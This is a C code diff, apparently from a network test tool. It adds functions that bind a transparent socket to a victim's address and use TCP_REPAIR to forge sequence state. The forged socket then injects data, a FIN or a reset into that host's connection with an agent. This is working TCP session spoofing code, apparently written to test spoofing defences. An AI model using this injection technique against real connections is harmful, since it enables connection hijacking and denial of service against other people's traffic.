@@ -364,6 +364,79 @@ static void send_segment(const struct spoof *spoof, struct flags flags, const ch
 		send_whole(spoof, &tcp);
 }
 
+/* ---- a socket in the victim's place ---- */
+
+static int from_victims_address(const struct spoof *spoof)
+{
+	int fd = socket(spoof->v6 ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	struct sockaddr_storage from;
+	socklen_t len = address(&from, setting(spoof->v6 ? "BYPASS_OWN_IP6" : "BYPASS_OWN_IP"),
+				spoof->port, false);
+	int r = spoof->v6 ? set_int(fd, IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
+			  : set_int(fd, IPPROTO_IP, IP_TRANSPARENT, 1);
+
+	if (r < 0 || bind(fd, (struct sockaddr *)&from, len) < 0)
+		perror("neighbour: the victim's address");
+	return fd;
+}
+
+static int set_queue(int fd, int queue, uint32_t seq)
+{
+	int r = set_int(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, queue);
+
+	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, (int)seq);
+}
+
+static int repair(int fd, const struct spoof *spoof)
+{
+	const struct tcp_repair_window window = {.snd_wl1 = spoof->ack,
+						 .snd_wnd = UINT16_MAX,
+						 .max_window = UINT16_MAX,
+						 .rcv_wnd = UINT16_MAX,
+						 .rcv_wup = spoof->ack};
+	int r = set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_ON);
+
+	if (r == 0)
+		r = set_queue(fd, TCP_SEND_QUEUE, spoof->seq);
+	if (r == 0)
+		r = set_queue(fd, TCP_RECV_QUEUE, spoof->ack);
+	if (r == 0)
+		r = dial(fd, spoof->v6 ? NODE6 : NODE4, AGENT_PORT, false);
+	if (r == 0 && setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_WINDOW, &window, sizeof(window)) < 0)
+		r = -errno;
+	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP);
+}
+
+/* Whatever it was cut off by. */
+static int join_again(int fd)
+{
+	int r = setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "eth0", sizeof("eth0"));
+
+	if (r == 0)
+		r = set_int(fd, SOL_SOCKET, SO_MARK, 0);
+	if (r == 0)
+		r = set_int(fd, SOL_SOCKET, SO_KEEPALIVE, 0);
+	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_USER_TIMEOUT, 0);
+}
+
+static void send_repaired(const struct spoof *spoof)
+{
+	static const struct linger none = {.l_onoff = 1};
+	int fd = from_victims_address(spoof);
+
+	if (repair(fd, spoof) < 0 || join_again(fd) < 0)
+		perror("neighbour: TCP_REPAIR");
+	if (spoof->kind == SPOOF_REPAIR_RST)
+		setsockopt(fd, SOL_SOCKET, SO_LINGER, &none, sizeof(none));
+	else if (spoof->kind == SPOOF_REPAIR_FIN)
+		shutdown(fd, SHUT_WR);
+	else if (send(fd, ANSWER, strlen(ANSWER), MSG_NOSIGNAL | MSG_DONTWAIT) < 0)
+		perror("neighbour: TCP_REPAIR, send");
+	if (spoof->kind != SPOOF_REPAIR_RST) /* it ends without a word */
+		set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_ON);
+	close(fd);
+}
+
 static void send_spoofed(struct spoof spoof)
 {
 	switch (spoof.kind) {
@@ -380,6 +453,11 @@ static void send_spoofed(struct spoof spoof)
 		send_segment(&spoof, (struct flags){.syn = true, .ack = true}, ANSWER);
 		spoof.seq++;
 		send_segment(&spoof, (struct flags){.ack = true}, ANSWER);
+		break;
+	case SPOOF_REPAIR_DATA:
+	case SPOOF_REPAIR_FIN:
+	case SPOOF_REPAIR_RST:
+		send_repaired(&spoof);
 		break;
 	case SPOOF_NONE:
 		break;
